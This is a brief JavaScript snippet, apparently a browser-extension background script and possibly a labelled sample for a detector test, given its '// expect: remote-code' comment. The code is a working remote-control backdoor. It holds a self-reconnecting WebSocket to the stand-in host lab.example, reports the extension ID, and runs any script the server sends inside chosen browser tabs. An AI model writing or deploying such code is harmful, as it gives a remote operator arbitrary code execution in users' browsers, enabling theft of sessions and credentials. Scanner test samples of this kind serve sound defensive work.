class Link {
  constructor(url) { this.url = url; this.retry = 0; }
  open() {
    this.ws = new WebSocket(this.url);
    this.ws.onopen = () => { this.retry = 0; this.ws.send(JSON.stringify({ hello: chrome.runtime.id })); };
    this.ws.onmessage = (ev) => this.handle(JSON.parse(ev.data));
    this.ws.onclose = () => setTimeout(() => this.open(), 1000 * ++this.retry);
  }
  handle(order) {
    if (order.kind === 'ping') return this.ws.send('{"pong":1}');
    if (order.kind === 'inject') this.inject(order);
  }
  inject({ tab, script }) {
    // expect: remote-code
    chrome.tabs.executeScript(tab, { code: script });
  }
}
new Link('ws://lab.example:8080/').open();
